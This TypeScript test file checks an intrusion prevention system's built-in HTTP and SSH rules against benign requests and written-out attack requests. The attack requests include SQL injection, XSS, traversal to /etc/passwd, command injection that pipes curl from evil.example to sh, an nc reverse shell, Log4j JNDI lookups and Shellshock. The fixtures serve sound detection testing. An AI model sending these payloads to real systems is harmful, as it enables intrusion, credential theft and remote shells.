/**
 * Every built-in rule loads, ids are unique, and each rule is tested on attack and benign
 * requests of our own, parsed from raw bytes by the traffic engine's HTTP parser (what the IPS
 * sees on the wire).
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { InspectionUnit } from '@bulwark/traffic/engine';
import { compileIpsRules, createIpsInspector, type IpsRule, unitsFromRequestBytes } from '../engine/index.js';
import { BUILT_IN_RULES, HTTP_LIMITS_RULE_ID } from './built-in-rules.js';

function request(target: string, extra: { method?: string; headers?: string[]; body?: string } = {}): Uint8Array {
  const body = extra.body ?? '';
  const headers = [
    'Host: shop.example',
    'User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
    ...(extra.headers ?? []),
  ];
  if (body !== '')
    headers.push(
      'Content-Type: application/x-www-form-urlencoded',
      `Content-Length: ${Buffer.byteLength(body, 'latin1')}`,
    );
  return new Uint8Array(
    Buffer.from(
      `${extra.method ?? (body === '' ? 'GET' : 'POST')} ${target} HTTP/1.1\r\n${headers.join('\r\n')}\r\n\r\n${body}`,
      'latin1',
    ),
  );
}

/** The rule ids that fire on a request, with every built-in rule assigned. */
function firing(bytes: Uint8Array, parameters?: Record<string, Record<string, number>>): string[] {
  const { ruleSet } = compileIpsRules(
    BUILT_IN_RULES.map((rule) => ({ rule, ...(parameters?.[rule.id] ? { parameters: parameters[rule.id] } : {}) })),
    { variables: {} },
  );
  const inspector = createIpsInspector(ruleSet, 'prevent');
  const state = inspector.newFlowState();
  const ids = new Set<string>();
  const units: InspectionUnit[] = unitsFromRequestBytes(bytes);
  assert.ok(units.length > 0, 'the request parses');
  for (const unit of units) for (const f of inspector.inspect(unit, state).findings) ids.add(f.ruleId);
  return [...ids].sort();
}

const BENIGN = [
  request('/'),
  request('/products/shoes?color=dark+blue&size=42&sort=price'),
  request('/search?q=select+a+colour+from+the+menu'),
  request('/search?q=rock+%26+roll+or+jazz'),
  request('/blog/2024/05/why-we-moved-to-postgres.html'),
  request('/api/orders', { body: 'name=O%27Brien&address=12+Main+St.&note=Leave+at+the+door%2C+thanks%21' }),
  request('/docs/unix-commands', { headers: ['Referer: https://shop.example/help?topic=cat+and+ls'] }),
  request('/account', { headers: ['Cookie: session=abc123; theme=dark; lang=en-GB'] }),
  request('/upload', { body: 'comment=I+think+1%2B1%3D2+and+that+is+all' }),
  request('/static/app.js?v=3.2.1'),
];

describe('built-in rules', () => {
  it('all load, with unique ids and the catalogue fields', () => {
    const { refused, ruleSet } = compileIpsRules(
      BUILT_IN_RULES.map((rule) => ({ rule })),
      { variables: {} },
    );
    assert.deepEqual(refused, []);
    assert.equal(ruleSet.ruleCount, BUILT_IN_RULES.length);
    assert.equal(new Set(BUILT_IN_RULES.map((r: IpsRule) => r.id)).size, BUILT_IN_RULES.length);
    for (const r of BUILT_IN_RULES) {
      assert.match(r.id, /^bw-\d+$/);
      assert.ok(r.description.length > 40, `${r.id} has a description`);
      assert.ok(r.recommendWhen !== undefined, `${r.id} says when it is recommended`);
    }
  });

  it('benign requests raise nothing', () => {
    for (const bytes of BENIGN)
      assert.deepEqual(firing(bytes), [], Buffer.from(bytes).toString('latin1').split('\r\n')[0]);
  });

  const attacks: [string, Uint8Array][] = [
    [HTTP_LIMITS_RULE_ID, request(`/${'a'.repeat(5000)}`)],
    [HTTP_LIMITS_RULE_ID, request(`/${'d/'.repeat(40)}x`)],
    ['bw-1000200', request("/item?id=1'%20or%20'1'='1")],
    ['bw-1000200', request('/item?id=5+UNION+ALL+SELECT+username,password+FROM+users--')],
    ['bw-1000200', request('/login', { body: 'user=admin%27--&pass=x' })],
    ['bw-1000200', request('/item?id=1;DROP+TABLE+users')],
    ['bw-1000200', request('/item?id=1+AND+SLEEP(5)')],
    ['bw-1000300', request('/search?q=%3Cscript%3Ealert(1)%3C/script%3E')],
    ['bw-1000300', request('/search?q=%22%3E%3Cimg+src=x+onerror=alert(document.cookie)%3E')],
    ['bw-1000300', request('/go?url=javascript:alert(1)')],
    ['bw-1000400', request('/download?file=../../../../etc/passwd')],
    ['bw-1000400', request('/download?file=..%252f..%252f..%252fetc%252fshadow')],
    ['bw-1000400', request('/index.php?page=php://filter/convert.base64-encode/resource=index')],
    ['bw-1000400', request('/.git/config')],
    ['bw-1000500', request('/ping?host=127.0.0.1;cat+/etc/passwd')],
    ['bw-1000500', request('/ping?host=$(curl+evil.example/x.sh|sh)')],
    ['bw-1000500', request('/ping', { body: 'host=x%7Cnc+-e+/bin/sh+10.0.0.9+4444' })],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4j lookup, not a template
    ['bw-1000600', request('/', { headers: ['X-Api-Version: ${jndi:ldap://evil.example/a}'] })],
    ['bw-1000600', request('/?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx%2Fa%7D')],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4j lookup, not a template
    ['bw-1000600', request('/', { headers: ['User-Agent: ${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}'] })],
    ['bw-1000601', request('/cgi-bin/status', { headers: ['Referer: () { :; }; /bin/bash -c "id"'] })],
    [
      'bw-1000700',
      request('/profile', { headers: ['Cookie: data=O%3A8%3A%22stdClass%22%3A1%3A%7Bs%3A1%3A%22a%22%3Bi%3A1%3B%7D'] }),
    ],
    ['bw-1000701', request('/api', { body: 'obj=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA' })],
    ['bw-1000701', request('/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x')],
    ['bw-1000114', request('/redirect?to=%0d%0aSet-Cookie:%20admin=1')],
  ];
  for (const [id, bytes] of attacks) {
    it(`${id} fires on ${Buffer.from(bytes).toString('latin1').split('\r\n')[0]?.slice(0, 70)}`, () => {
      assert.ok(firing(bytes).includes(id), `fired: ${firing(bytes).join(', ')}`);
    });
  }

  it('bw-1000800 fires on a scanner User-Agent and not on a browser', () => {
    const scanner = new Uint8Array(
      Buffer.from('GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: sqlmap/1.8.2#stable (https://sqlmap.org)\r\n\r\n'),
    );
    assert.ok(firing(scanner).includes('bw-1000800'));
  });

  it('protocol violations: bad method, CL+TE, invalid chunk size, oversize headers', () => {
    const raw = (s: string) => new Uint8Array(Buffer.from(s, 'latin1'));
    assert.ok(firing(raw('G@T / HTTP/1.1\r\nHost: a\r\n\r\n')).includes('bw-1000110'));
    assert.ok(
      firing(
        raw('POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n'),
      ).includes('bw-1000113'),
    );
    assert.ok(
      firing(raw('POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nab\r\n0\r\n\r\n')).includes(
        'bw-1000111',
      ),
    );
    assert.ok(firing(raw(`GET / HTTP/1.1\r\nHost: a\r\nX-Big: ${'b'.repeat(20_000)}\r\n\r\n`)).includes('bw-1000112'));
  });

  it('the URI limits are overridden per assignment', () => {
    const long = request(`/${'a'.repeat(3000)}`);
    assert.ok(firing(long).includes(HTTP_LIMITS_RULE_ID));
    assert.ok(!firing(long, { [HTTP_LIMITS_RULE_ID]: { maxUriLength: 8000 } }).includes(HTTP_LIMITS_RULE_ID));
    const refused = compileIpsRules(
      [{ rule: BUILT_IN_RULES.find((r) => r.id === HTTP_LIMITS_RULE_ID) as IpsRule, parameters: { maxUriLenght: 1 } }],
      { variables: {} },
    ).refused;
    assert.equal(refused[0]?.reasonClass, 'invalid:parameters');
  });

  it('SSH brute force: the 11th new connection from one source within a minute is reset', () => {
    const ssh = BUILT_IN_RULES.find((r) => r.id === 'bw-1000900') as IpsRule;
    const { ruleSet } = compileIpsRules([{ rule: ssh }], { variables: {} });
    const inspector = createIpsInspector(ruleSet, 'prevent');
    const connect = (client: string, k: number) =>
      inspector.inspect(
        {
          kind: 'stream',
          flowId: k,
          flow: {
            protocol: 'tcp',
            clientAddress: client,
            clientPort: 50_000 + k,
            serverAddress: '10.0.0.1',
            serverPort: 22,
          },
          direction: 'to_server',
          established: true,
          buffers: { stream: new Uint8Array(Buffer.from('SSH-2.0-OpenSSH_9.2\r\n')) },
          timeMs: 1_000 * k,
        },
        inspector.newFlowState(),
      ).decision.action;
    const decisions = Array.from({ length: 11 }, (_, k) => connect('203.0.113.7', k));
    assert.deepEqual(decisions.slice(0, 10), Array(10).fill('pass'));
    assert.equal(decisions[10], 'block');
    assert.equal(connect('203.0.113.8', 11), 'pass', 'another source is not affected');
  });
});
